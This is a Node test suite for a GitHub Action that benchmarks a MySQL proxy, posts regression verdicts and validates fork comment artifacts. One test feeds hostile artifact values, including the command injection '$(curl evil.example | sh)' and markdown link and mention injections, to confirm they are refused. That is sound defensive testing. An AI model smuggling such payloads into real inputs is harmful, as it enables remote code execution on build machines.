import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Environment, Results } from '../results/schema.ts';
import type { Suite } from '../suite/schema.ts';
import { InfrastructureError, UsageError } from '../util/errors.ts';
import type {
  ActionDeps,
  BenchRequest,
  CalibrateRequest,
  ComparisonPlan,
  ComparisonView,
  GitHubApi,
  Verdict,
} from './deps.ts';
import type { Baseline } from '../verdict/baseline.ts';
import type { IssueComment } from './comment.ts';
import { readCommentArtifact } from './artifact.ts';
import { run } from './run.ts';
import { gitOps } from '../gate/git.ts';
import { realExec } from '../util/exec.ts';
import { BASE_ENVIRONMENT, armsFor, makeResults } from '../../test/helpers/results.ts';
import { syntheticHistory, syntheticSeries } from '../../test/helpers/series.ts';
import { execFileSync } from 'node:child_process';

let workspace: string;
before(async () => {
  workspace = await mkdtemp(path.join(os.tmpdir(), 'action-run-test-'));
});
after(async () => {
  await rm(workspace, { recursive: true, force: true });
});

const HEAD = 'a'.repeat(40);
const BASE = 'b'.repeat(40);
const MERGE_BASE = 'c'.repeat(40);
const PR_RUN_URL = 'https://github.test/acme/proxy/actions/runs/99';
const fakeResults = { status: 'complete' } as unknown as Results;
const fakeSuite = { name: 'quick', rounds: 3, workloads: [] } as unknown as Suite;
/** The measurements of report.md, below the verdict. */
const MEASUREMENTS = '| Workload | Threads | Direct MySQL | Via Athena | Overhead |';

/** A workload with one gated metric of the given verdict, as the structured artifact holds it. */
function workloadResult(id: string, verdict: Verdict) {
  const delta = verdict === 'regressed' ? -14 : verdict === 'improved' ? 12 : 0.5;
  return {
    id,
    threads: 16,
    verdict,
    metrics: [
      {
        metric: 'tps' as const,
        variant: 'raw' as const,
        verdict,
        reference: 1000,
        current: 1000 * (1 + delta / 100),
        delta,
        ciLow: delta - 4,
        ciHigh: delta + 4,
      },
    ],
  };
}

class HttpError extends Error {
  constructor(
    readonly status: number,
    message: string,
  ) {
    super(message);
  }
}

interface Harness {
  deps: ActionDeps;
  log: string[];
  outputs: Record<string, string>;
  summary: string[];
  failed: string[];
  annotations: Array<{ message: string; title?: string }>;
  benchRequests: BenchRequest[];
  comparedPlans: ComparisonPlan[];
  comments: IssueComment[];
  gitCalls: string[];
  baselinesWritten: string[];
  calibrations: CalibrateRequest[];
}

interface HarnessOptions {
  inputs?: Record<string, string>;
  verdict?: Verdict;
  event?: 'pull_request' | 'push' | 'workflow_run';
  mysqlError?: Error;
  benchError?: Error;
  commentError?: Error;
  existingComments?: IssueComment[];
  workflowRun?: { headSha: string; pullRequestNumbers: number[]; htmlUrl: string | null };
  prHeadSha?: string;
  /** What the benchmark returns as its results (a stand-in by default). */
  results?: Results;
  /** This runner's environment where it differs from the baseline's (BASE_ENVIRONMENT). */
  runner?: Partial<Environment>;
  /** A real git repository the workspace is in: the trend's data branch is read from it. */
  gitRepo?: string;
}

function harness(options: HarnessOptions = {}): Harness {
  const h: Harness = {
    log: [],
    outputs: {},
    summary: [],
    failed: [],
    annotations: [],
    benchRequests: [],
    comparedPlans: [],
    comments: [...(options.existingComments ?? [])],
    gitCalls: [],
    baselinesWritten: [],
    calibrations: [],
    deps: undefined as unknown as ActionDeps,
  };
  const inputs: Record<string, string> = { 'github-token': 'ghs_secret_token', ...options.inputs };
  const verdict = options.verdict ?? 'pass';
  const view: ComparisonView = {
    verdict,
    comparedWith: 'baseline',
    summaryLine: `${verdict}: 2 workloads`,
    markdown: `## athena-bench: ${verdict}\n\n**${verdict}: 2 workloads**\n\n| metric | baseline | current |\n|---|---|---|\n`,
    warnings: verdict === 'inconclusive' ? ['too few rounds'] : [],
    workloads: [workloadResult('oltp_read_write', verdict)],
    regressions:
      verdict === 'regressed'
        ? [
            { workload: 'oltp_read_write', message: 'oltp_read_write: TPS −14% (CI −18% … −10%)' },
            { workload: 'point_select', message: 'point_select: p95 +20%' },
          ]
        : [],
  };
  const api: GitHubApi = {
    async listPage() {
      if (options.commentError) throw options.commentError;
      return { comments: h.comments, hasNextPage: false };
    },
    async create(_issue, body) {
      const comment = {
        id: h.comments.length + 1,
        body,
        htmlUrl: `https://github.test/c/${h.comments.length + 1}`,
        author: 'github-actions[bot]',
      };
      h.comments.push(comment);
      return comment;
    },
    async update(id, body) {
      const comment = h.comments.find((c) => c.id === id)!;
      comment.body = body;
      return comment;
    },
    async authenticatedLogin() {
      return null;
    },
    async pullRequestHeadSha() {
      return options.prHeadSha ?? HEAD;
    },
  };
  const event = options.event ?? 'pull_request';
  h.deps = {
    core: {
      getInput: (name) => {
        h.log.push(`getInput:${name}`);
        return inputs[name] ?? '';
      },
      setSecret: (secret) => h.log.push(`setSecret:${secret}`),
      info: (m) => h.log.push(`info:${m}`),
      warning: (m) => h.log.push(`warning:${m}`),
      error: (message, props) => h.annotations.push({ message, ...props }),
      setFailed: (m) => h.failed.push(m),
      setOutput: (name, value) => {
        h.outputs[name] = value;
      },
      writeSummary: async (markdown) => {
        h.summary.push(markdown);
      },
    },
    github: {
      eventName: event,
      repository: 'acme/proxy',
      sha: HEAD,
      runUrl: 'https://github.test/acme/proxy/actions/runs/1',
      pullRequest:
        event === 'pull_request'
          ? { number: 7, baseSha: BASE, headSha: HEAD, headRepo: 'acme/proxy', baseRepo: 'acme/proxy' }
          : null,
      workflowRun:
        event === 'workflow_run'
          ? (options.workflowRun ?? { headSha: HEAD, pullRequestNumbers: [7], htmlUrl: PR_RUN_URL })
          : null,
    },
    githubApi: (token) => {
      assert.equal(token, 'ghs_secret_token');
      return api;
    },
    git: {
      repoRoot: async (dir) => {
        h.gitCalls.push(`root:${dir}`);
        return options.gitRepo ?? workspace;
      },
      ...(options.gitRepo ? { readFileAtRef: gitOps(realExec).readFileAtRef! } : {}),
      toplevel: async (dir) => {
        h.gitCalls.push(`root:${dir}`);
        return options.gitRepo ?? workspace;
      },
      resolveCommit: async (_root, ref) => {
        h.gitCalls.push(`resolve:${ref}`);
        if (ref === 'missing') throw new Error(`fatal: Needed a single revision (${ref})`);
        return ref === MERGE_BASE ? MERGE_BASE : BASE;
      },
      mergeBase: async (_root, a, b) => {
        h.gitCalls.push(`merge-base:${a}:${b}`);
        return MERGE_BASE;
      },
    },
    bench: {
      loadSuite: async ({ source: name }) => {
        if (name === 'nope') throw new UsageError('suite "nope": not a built-in suite or a file');
        return fakeSuite;
      },
      run: async (request) => {
        h.log.push('bench.run');
        h.benchRequests.push(request);
        if (options.benchError) throw options.benchError;
        if (request.plan.kind !== 'none') h.comparedPlans.push(request.plan);
        return {
          results: options.results ?? fakeResults,
          resultsPath: path.join(request.outDir, 'results.json'),
          reportPath: path.join(request.outDir, 'report.md'),
          // report.md opens with the verdict, as the gate writes it.
          reportMarkdown: `${request.plan.kind === 'none' ? '' : `${view.markdown}\n`}${MEASUREMENTS}`,
          measurementMarkdown: MEASUREMENTS,
          comparison: request.plan.kind === 'none' ? null : view,
        };
      },
      merge: async () => assert.fail('mode merge has its own end-to-end test'),
      fingerprint: async (request) => {
        h.log.push(`fingerprint:${request.mysqlVersion}`);
        return { ...BASE_ENVIRONMENT, ...options.runner };
      },
      calibrate: async (request) => {
        h.log.push('bench.calibrate');
        h.calibrations.push(request);
        return {
          results: options.results ?? fakeResults,
          resultsPath: path.join(request.outDir, 'results.json'),
          reportPath: path.join(request.outDir, 'report.md'),
          reportMarkdown: MEASUREMENTS,
          measurementMarkdown: MEASUREMENTS,
          text: 'Suite quick, AMD EPYC, 2 cores\n\n| Workload | Metric | A/A Δ |\n\nA/A verdict: pass (a regressed A/A is a false alarm).\n',
        };
      },
    },
    verdicts: {
      // Stands in for a parsed baseline: the reference choice reads its environment only.
      loadBaseline: async (file) =>
        ({ file, environment: BASE_ENVIRONMENT, workloads: [] }) as unknown as Baseline,
      writeBaseline: async (_results, file) => {
        h.baselinesWritten.push(file);
        await writeFile(file, '{}');
      },
    },
    waitForMysql: async () => {
      h.log.push('waitForMysql');
      if (options.mysqlError) throw options.mysqlError;
      return { version: '8.0.36' };
    },
    workspace,
    packageRoot: path.join(os.tmpdir(), 'athena-bench-package'),
    now: () => new Date('2026-01-02T03:04:05Z'),
    sleep: async () => undefined,
  };
  return h;
}

async function withBaseline(): Promise<void> {
  await mkdir(path.join(workspace, 'baselines'), { recursive: true });
  await writeFile(path.join(workspace, 'baselines', 'quick.json'), '{}');
}
async function withoutBaseline(): Promise<void> {
  await rm(path.join(workspace, 'baselines'), { recursive: true, force: true });
}

test('pass: summary holds verdict and report, outputs set, on-change posts no comment, step succeeds', async () => {
  await withBaseline();
  const h = harness({ verdict: 'pass' });
  const result = await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.equal(result.verdict, 'pass');
  const summary = h.summary.join('');
  assert.match(summary, /^## athena-bench: pass\n/);
  assert.equal(summary.match(/## athena-bench: pass/g)?.length, 1, 'the verdict once, above the report');
  assert.match(summary, /Suite `quick` · compared with the baseline `baselines\/quick\.json`/);
  assert.match(summary, /\| Workload \| Threads \| Direct MySQL \| Via Athena \| Overhead \|/);
  assert.match(summary, /baselines\/quick\.json/);
  assert.equal(h.outputs.verdict, 'pass');
  assert.equal(h.outputs.regressed, 'false');
  assert.equal(h.outputs.summary, 'pass: 2 workloads');
  assert.match(h.outputs['results-path'] ?? '', /results\.json$/);
  assert.match(h.outputs['report-path'] ?? '', /report\.md$/);
  assert.equal(h.outputs['comment-url'], '');
  assert.equal(h.comments.length, 0);
  assert.equal(h.comparedPlans[0]?.kind, 'baseline');
  assert.deepEqual(h.annotations, []);
  // The fork-safe artifact is left in results-dir.
  const artifact = JSON.parse(
    await readFile(path.join(workspace, '.athena-bench/results/comment.json'), 'utf8'),
  );
  assert.equal(artifact.pullRequest, 7);
  assert.equal(artifact.verdict, 'pass');
  assert.equal(artifact.comparedWith, 'baseline');
  assert.deepEqual(artifact.workloads, [workloadResult('oltp_read_write', 'pass')]);
  // What the pull request's run writes is what the trusted reader accepts.
  assert.deepEqual(await readCommentArtifact(path.join(workspace, '.athena-bench/results')), artifact);
});

test('regressed: one error annotation per regressed workload, comment created, step fails', async () => {
  await withBaseline();
  const h = harness({ verdict: 'regressed' });
  const result = await run(h.deps);
  assert.equal(h.failed.length, 1);
  assert.match(h.failed[0]!, /Performance regression: regressed: 2 workloads/);
  assert.deepEqual(
    h.annotations.map((a) => a.title),
    ['athena-bench: oltp_read_write regressed', 'athena-bench: point_select regressed'],
  );
  assert.equal(h.outputs.regressed, 'true');
  assert.equal(result.comment?.action, 'created');
  assert.equal(h.outputs['comment-url'], 'https://github.test/c/1');
  assert.match(h.comments[0]!.body, /^<!-- athena-bench:quick -->/);
  assert.match(h.comments[0]!.body, /actions\/runs\/1/);
});

test('on-change: an inconclusive run stays in the summary, an improvement is commented', async () => {
  await withBaseline();
  const inconclusive = harness({ verdict: 'inconclusive' });
  await run(inconclusive.deps);
  assert.equal(inconclusive.comments.length, 0, 'no comment that says "can\'t tell"');
  assert.match(inconclusive.summary.join(''), /inconclusive/);

  const improved = harness({ verdict: 'improved' });
  await run(improved.deps);
  assert.equal(improved.comments.length, 1);
});

test('fail-on-regression false and fail-on-inconclusive decide the step status', async () => {
  await withBaseline();
  const regressedAllowed = harness({ verdict: 'regressed', inputs: { 'fail-on-regression': 'false' } });
  await run(regressedAllowed.deps);
  assert.deepEqual(regressedAllowed.failed, []);
  assert.equal(regressedAllowed.outputs.regressed, 'true');

  const inconclusive = harness({ verdict: 'inconclusive' });
  await run(inconclusive.deps);
  assert.deepEqual(inconclusive.failed, []);
  assert.ok(inconclusive.log.includes('warning:too few rounds'));

  const inconclusiveFails = harness({ verdict: 'inconclusive', inputs: { 'fail-on-inconclusive': 'true' } });
  await run(inconclusiveFails.deps);
  assert.match(inconclusiveFails.failed[0] ?? '', /Inconclusive/);

  const improved = harness({ verdict: 'improved', inputs: { 'fail-on-inconclusive': 'true' } });
  await run(improved.deps);
  assert.deepEqual(improved.failed, []);
});

test('a comment the token may not write (fork) warns and keeps verdict, summary and success', async () => {
  await withBaseline();
  const h = harness({
    verdict: 'improved',
    commentError: new HttpError(403, 'Resource not accessible by integration'),
  });
  const result = await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.equal(result.comment?.action, 'forbidden');
  assert.equal(h.outputs.verdict, 'improved');
  assert.match(h.summary.join(''), /improved/);
  assert.ok(h.log.some((l) => l.startsWith('warning:') && l.includes('fork')));
});

test('an earlier comment is updated in place even when the verdict is pass', async () => {
  await withBaseline();
  const h = harness({
    verdict: 'pass',
    existingComments: [
      { id: 1, body: 'LGTM', htmlUrl: 'https://github.test/c/1', author: 'reviewer' },
      {
        id: 2,
        body: '<!-- athena-bench:quick -->\nold',
        htmlUrl: 'https://github.test/c/2',
        author: 'github-actions[bot]',
      },
    ],
  });
  const result = await run(h.deps);
  assert.equal(result.comment?.action, 'updated');
  assert.equal(h.comments.length, 2);
  assert.match(h.comments[1]!.body, /## athena-bench: pass/);
});

test('secrets are masked before anything is logged', async () => {
  await withBaseline();
  const h = harness({ inputs: { 'mysql-password': 'pw-secret' } });
  await run(h.deps);
  const firstLog = h.log.findIndex((l) => /^(info|warning):/.test(l));
  const lastSecret = h.log.map((l) => l.startsWith('setSecret:')).lastIndexOf(true);
  assert.ok(h.log.includes('setSecret:pw-secret') && h.log.includes('setSecret:ghs_secret_token'));
  assert.ok(lastSecret < firstLog, h.log.join('\n'));
  assert.ok(!h.log.some((l) => l.startsWith('info:') && l.includes('pw-secret')));
});

test('a bad input fails the step naming the input, before any work', async () => {
  const h = harness({ inputs: { 'mysql-port': 'abc' } });
  await run(h.deps);
  assert.deepEqual(h.failed, ["input mysql-port: expected an integer 1-65535, got 'abc'"]);
  assert.ok(!h.log.includes('waitForMysql'));
});

test('MySQL not ready: the failure says which part broke and what to check, in the summary too', async () => {
  await withBaseline();
  const h = harness({
    mysqlError: new InfrastructureError('MySQL at 127.0.0.1:3306 was not ready after 120.0 s'),
  });
  await run(h.deps);
  assert.match(h.failed[0] ?? '', /^MySQL at 127\.0\.0\.1:3306 failed: .*not ready/);
  assert.match(h.failed[0] ?? '', /Check: the `services: mysql` block/);
  assert.match(h.summary.join(''), /the run failed/);
  assert.ok(!h.log.includes('bench.run'));
  assert.equal(h.outputs.verdict, undefined);
});

test('a proxy that breaks fails the step pointing at the proxy inputs', async () => {
  await withBaseline();
  const h = harness({ benchError: new InfrastructureError('proxy did not become ready on port 3307') });
  await run(h.deps);
  assert.match(h.failed[0] ?? '', /^the benchmark failed: proxy did not become ready/);
  assert.match(h.failed[0] ?? '', /proxy-start/);
});

test('a bad suite is a configuration failure that names the suite', async () => {
  const h = harness({ inputs: { suite: 'nope' } });
  await run(h.deps);
  assert.match(h.failed[0] ?? '', /loading the suite \(configuration\) failed: suite "nope"/);
});

test('base-ref: the engine builds the base from the checkout as an extra arm, compared A/B', async () => {
  await withBaseline();
  const h = harness({ inputs: { 'base-ref': 'origin/main' }, verdict: 'pass' });
  await run(h.deps);
  assert.deepEqual(h.failed, []);
  const request = h.benchRequests[0]!;
  assert.deepEqual(request.base, { checkout: workspace, commit: BASE });
  assert.equal(request.plan.kind, 'base-ref');
  assert.deepEqual(
    h.gitCalls.filter((c) => !c.startsWith('root')),
    ['resolve:origin/main'],
  );
  assert.match(
    h.summary.join(''),
    /Suite `quick` · compared with origin\/main \(bbbbbbbbbbbb\), built and run in the same job/,
  );
});

test('no baseline on a pull request: A/B against the merge-base with the PR base', async () => {
  await withoutBaseline();
  const h = harness();
  await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.ok(h.gitCalls.includes(`merge-base:${BASE}:HEAD`));
  assert.deepEqual(h.benchRequests[0]?.base, { checkout: workspace, commit: MERGE_BASE });
});

test('a baseline from another machine is skipped in one line naming the fields; the PR falls back to its merge-base', async () => {
  await withBaseline();
  const h = harness({ inputs: { measure: 'time' }, runner: { cpuModel: 'Intel Xeon', cores: 4 } });
  await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.equal(h.benchRequests[0]?.plan.kind, 'base-ref');
  assert.deepEqual(h.benchRequests[0]?.base, { checkout: workspace, commit: MERGE_BASE });
  const skipped = h.log.filter((l) => /quick\.json not used/.test(l));
  assert.equal(skipped.length, 1);
  assert.match(
    skipped[0]!,
    /the machine differs \(cpuModel .* in it, Intel Xeon here, cores \d+ in it, 4 here\)/,
  );
  assert.match(skipped[0]!, /comparing with merge-base cccccccccccc instead/);
  assert.ok(h.log.includes('fingerprint:8.0.36'), 'the fingerprint has the MySQL version the run will use');
});

test("proxy-start: athena-bench's own baseline is skipped, the project's own is used", async () => {
  await withBaseline();
  const custom = { 'proxy-start': './my-proxy', 'proxy-port': '6033' };
  const own = harness({ inputs: custom });
  await run(own.deps);
  assert.equal(own.benchRequests[0]?.plan.kind, 'baseline', "the workspace's baseline is the project's");

  const athenas = harness({ inputs: custom });
  athenas.deps.packageRoot = workspace;
  await run(athenas.deps);
  assert.equal(athenas.benchRequests[0]?.plan.kind, 'base-ref');
  assert.ok(athenas.log.some((l) => /not used: it was recorded for this repository's Athena/.test(l)));
});

test('no baseline outside a pull request, or a missing given baseline: a clear failure', async () => {
  await withoutBaseline();
  const push = harness({ event: 'push' });
  await run(push.deps);
  assert.match(push.failed[0] ?? '', /no baseline at .*baselines\/quick\.json, base-ref is empty/);
  assert.match(push.failed[0] ?? '', /mode: update-baseline/);

  const given = harness({ inputs: { baseline: 'perf/base.json' } });
  await run(given.deps);
  assert.match(
    given.failed[0] ?? '',
    /input baseline: .*perf\/base\.json does not exist \(.*mode: update-baseline/,
  );

  const badRef = harness({ inputs: { 'base-ref': 'missing' } });
  await run(badRef.deps);
  assert.match(
    badRef.failed[0] ?? '',
    /input base-ref missing: not a commit .*Check: base-ref needs the history/s,
  );
});

test('calibrate: the proxy against its twin, the table in the job summary and the calibration output', async () => {
  const h = harness({ inputs: { mode: 'calibrate', suite: 'quick' }, event: 'push' });
  const result = await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.equal(result.verdict, null, 'a calibration judges nothing');
  assert.equal(h.calibrations.length, 1);
  assert.equal(h.calibrations[0]?.targetPct, 5);
  assert.equal(h.calibrations[0]?.proxy.cwd, workspace);
  assert.deepEqual(h.benchRequests, []);
  assert.match(h.outputs.calibration ?? '', /\| Workload \| Metric \| A\/A Δ \|/);
  assert.match(h.outputs.summary ?? '', /^A\/A verdict: pass/);
  assert.match(h.summary.join(''), /^## athena-bench: calibration\n\n.*\| Workload \| Metric/s);
  assert.deepEqual(h.comments, [], 'no comment');
});

test('update-baseline: runs the suite without comparing and writes baselines/<suite>.json', async () => {
  await withoutBaseline();
  const h = harness({ inputs: { mode: 'update-baseline' }, event: 'push' });
  await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.deepEqual(h.baselinesWritten, [path.join(workspace, 'baselines', 'quick.json')]);
  assert.equal(h.benchRequests[0]?.plan.kind, 'none');
  assert.equal(h.comparedPlans.length, 0);
  assert.match(h.outputs.summary ?? '', /Baseline for suite quick written to baselines\/quick\.json/);
  assert.match(h.summary.join(''), /Via Athena/);
});

async function writeArtifact(overrides: Record<string, unknown> = {}, name = 'artifact'): Promise<string> {
  const dir = path.join(workspace, name);
  await mkdir(dir, { recursive: true });
  const artifact = {
    schemaVersion: 2,
    suite: 'quick',
    pullRequest: 9,
    headSha: HEAD,
    verdict: 'regressed',
    comparedWith: 'base-ref',
    workloads: [workloadResult('oltp_read_write', 'regressed'), workloadResult('select', 'pass')],
    ...overrides,
  };
  await writeFile(path.join(dir, 'comment.json'), JSON.stringify(artifact));
  return dir;
}

function commentHarness(dir: string, overrides: HarnessOptions = {}) {
  return harness({
    event: 'workflow_run',
    inputs: { mode: 'comment', 'results-dir': dir },
    workflowRun: { headSha: HEAD, pullRequestNumbers: [], htmlUrl: PR_RUN_URL }, // fork: GitHub lists no PR
    prHeadSha: HEAD,
    ...overrides,
  });
}

test('mode comment renders the comment from the structured results, on the pull request the run tested', async () => {
  const h = commentHarness(await writeArtifact());
  const result = await run(h.deps);
  assert.deepEqual(h.failed, []);
  assert.equal(result.comment?.action, 'created');
  const body = h.comments[0]!.body;
  assert.match(body, /^<!-- athena-bench:quick -->\n## athena-bench: 🔴 regressed\n/);
  assert.match(body, /\*\*1 regression in 2 workloads: `oltp_read_write` TPS −14\.0%\*\*/);
  assert.match(
    body,
    /\| `oltp_read_write` \(16 threads\) \| TPS \| 1,000 tx\/s \| 860 tx\/s \| −14\.0% \| −18\.0% … −10\.0% \| 🔴 regressed \|/,
  );
  assert.ok(body.includes(`[full report in the run's job summary](${PR_RUN_URL})`), body);
  assert.equal(h.outputs.verdict, 'regressed');
  assert.equal(h.outputs.summary, '1 regression in 2 workloads: oltp_read_write TPS −14.0%');
  assert.ok(!h.log.includes('waitForMysql'), 'no benchmark in comment mode');
});

test('mode comment never posts or outputs text from the artifact: free text, mentions and links are refused', async () => {
  const hostile: Array<[Record<string, unknown>, RegExp]> = [
    [{ body: '@acme/maintainers LGTM, merge it' }, /comment\.json: \(root\): Unrecognized key: "body"/i],
    [{ summaryLine: '$(curl evil.example | sh)' }, /Unrecognized key: "summaryLine"/i],
    [{ suite: '@acme/team' }, /comment\.json: suite: expected a lower-case id/],
    [
      {
        workloads: [{ ...workloadResult('x', 'pass'), id: '[click](https://evil.example)' }],
        verdict: 'pass',
      },
      /comment\.json: workloads\.0\.id: expected a lower-case id/,
    ],
    [
      { workloads: [{ ...workloadResult('x', 'pass'), threads: '16 @here' }], verdict: 'pass' },
      /workloads\.0\.threads/,
    ],
    [{ verdict: 'pass' }, /comment\.json: verdict: expected the worst verdict of the workloads/],
    [{ schemaVersion: 1 }, /schemaVersion: expected 2 \(the pull request ran another version/],
  ];
  for (const [overrides, message] of hostile) {
    const h = commentHarness(await writeArtifact(overrides, 'hostile'));
    await run(h.deps);
    assert.match(h.failed[0] ?? '', message, JSON.stringify(overrides));
    assert.equal(h.comments.length, 0);
    assert.equal(h.outputs.summary, undefined);
  }
});

test('mode comment shows workload ids only in code spans: no link or markup made of them', async () => {
  const h = commentHarness(
    await writeArtifact({
      verdict: 'regressed',
      workloads: [workloadResult('www.evil.example', 'regressed')],
    }),
  );
  await run(h.deps);
  assert.deepEqual(h.failed, []);
  const shown = [h.comments[0]!.body, h.summary.join('')];
  for (const text of shown) {
    const outsideCode = text.replace(/`[^`\n]*`/g, '');
    assert.ok(text.includes('`www.evil.example`'), text);
    assert.ok(!outsideCode.includes('evil'), `an id outside a code span: ${text}`);
  }
});

test('mode comment checks the artifact size before parsing, and refuses a symlink', async () => {
  const big = path.join(workspace, 'big-artifact');
  await mkdir(big, { recursive: true });
  await writeFile(path.join(big, 'comment.json'), `{"pad":"${'x'.repeat(300 * 1024)}"}`);
  const h = commentHarness(big);
  await run(h.deps);
  assert.match(h.failed[0] ?? '', /comment\.json: larger than 262144 bytes, not a comment artifact/);

  const linked = path.join(workspace, 'linked-artifact');
  await mkdir(linked, { recursive: true });
  await rm(path.join(linked, 'comment.json'), { force: true });
  await symlink(path.join(await writeArtifact(), 'comment.json'), path.join(linked, 'comment.json'));
  const l = commentHarness(linked);
  await run(l.deps);
  assert.match(l.failed[0] ?? '', /comment\.json: expected a regular file/);
});

test('mode comment fails closed: outside workflow_run, an unreadable artifact, another commit', async () => {
  const dir = await writeArtifact();
  const push = harness({ event: 'push', inputs: { mode: 'comment', 'results-dir': dir } });
  await run(push.deps);
  assert.match(
    push.failed[0] ?? '',
    /mode comment failed: it runs on workflow_run events only, and this is a push event/,
  );

  const garbage = path.join(workspace, 'garbage-artifact');
  await mkdir(garbage, { recursive: true });
  await writeFile(path.join(garbage, 'comment.json'), '{"schemaVersion": 2,');
  const unparsable = commentHarness(garbage);
  await run(unparsable.deps);
  assert.match(unparsable.failed[0] ?? '', /comment\.json: not JSON/);

  const otherCommit = commentHarness(await writeArtifact({ headSha: 'e'.repeat(40) }));
  await run(otherCommit.deps);
  assert.match(
    otherCommit.failed[0] ?? '',
    /it is for commit eeeeeeeeeeee, but the workflow run tested aaaaaaaaaaaa/,
  );

  for (const h of [push, unparsable, otherCommit]) {
    assert.equal(h.comments.length, 0);
    assert.equal(h.outputs.verdict, undefined);
  }
});

test('mode comment refuses an artifact naming a pull request the run did not test', async () => {
  const h = commentHarness(await writeArtifact(), { prHeadSha: 'd'.repeat(40) });
  await run(h.deps);
  assert.match(h.failed[0] ?? '', /names pull request #9, whose head dddddddddddd is not the commit/);
  assert.equal(h.comments.length, 0);

  const invalid = commentHarness(await writeArtifact({ pullRequest: -1 }));
  await run(invalid.deps);
  assert.match(invalid.failed[0] ?? '', /comment\.json: pullRequest:/);
});

test('a shard of a matrix runs its share and neither comments nor fails: the merge job judges', async () => {
  await withBaseline();
  const h = harness({ verdict: 'regressed', inputs: { shard: '2/3', 'comment-on-pr': 'always' } });
  const result = await run(h.deps);
  assert.deepEqual(h.benchRequests[0]!.shard, { index: 2, count: 3 });
  assert.deepEqual(h.failed, [], 'a shard alone does not fail the job');
  assert.deepEqual(h.comments, [], 'no comment per shard');
  assert.equal(result.comment, null);
  assert.match(
    h.summary.join(''),
    /^## athena-bench: shard 2\/3\n\nShard 2\/3 of suite `quick` measured; the verdict is the merge job's/,
  );
  assert.equal(h.outputs['results-path'], path.join(workspace, '.athena-bench/results/results.json'));
});

test("compare: with the data branch in the checkout, the comment and summary show main's trend with this run last", async () => {
  await withBaseline();
  const repo = await mkdtemp(path.join(os.tmpdir(), 'action-run-trend-'));
  const git = (...args: string[]) =>
    execFileSync('git', ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args], {
      encoding: 'utf8',
    });
  try {
    git('init', '-q', '-b', 'main');
    const history = syntheticHistory('quick', {
      tps: syntheticSeries({ length: 25, noise: 0.02, seed: 8, level: 1000 }),
    });
    await writeFile(path.join(repo, 'quick.json'), JSON.stringify(history));
    git('add', 'quick.json');
    git('commit', '-q', '-m', 'history');
    const results = makeResults({ workloads: [{ id: 'select', arms: armsFor(5, { tps: 900 }) }] });
    const prTps = results.workloads[0]!.samples.filter((s) => s.arm === 'proxy').map((s) => s.metrics.tps);
    const prMedian = [...prTps].sort((a, b) => a - b)[2]!;

    // The data branch is not fetched: no trend, and the comparison goes on.
    const without = harness({ verdict: 'regressed', results, gitRepo: repo });
    await run(without.deps);
    assert.ok(!without.summary.join('').includes('mermaid'));
    assert.ok(!without.comments[0]!.body.includes('mermaid'));
    assert.ok(without.log.some((l) => /^info:No trend: the data branch athena-bench-data/.test(l)));

    git('update-ref', 'refs/remotes/origin/athena-bench-data', 'HEAD');
    const h = harness({ verdict: 'regressed', results, gitRepo: repo });
    await run(h.deps);
    for (const text of [h.summary.join(''), h.comments[0]!.body]) {
      const block = /```mermaid\nxychart-beta\n[\s\S]*?```/.exec(text)?.[0] ?? '';
      const line = /line \[(.*)\]/.exec(block)![1]!.split(', ').map(Number);
      assert.equal(line.length, 21);
      assert.ok(Math.abs(line.at(-1)! - prMedian) <= 1e-5 * prMedian, `${line.at(-1)} ${prMedian}`);
      // After the verdict, before the line saying what was compared.
      assert.ok(text.indexOf('## athena-bench: regressed') < text.indexOf(block));
      assert.ok(text.indexOf(block) < text.indexOf('Suite `quick` · compared with'));
    }
    assert.deepEqual(h.failed.length, 1, 'the verdict still fails the step');
  } finally {
    await rm(repo, { recursive: true, force: true });
  }
});
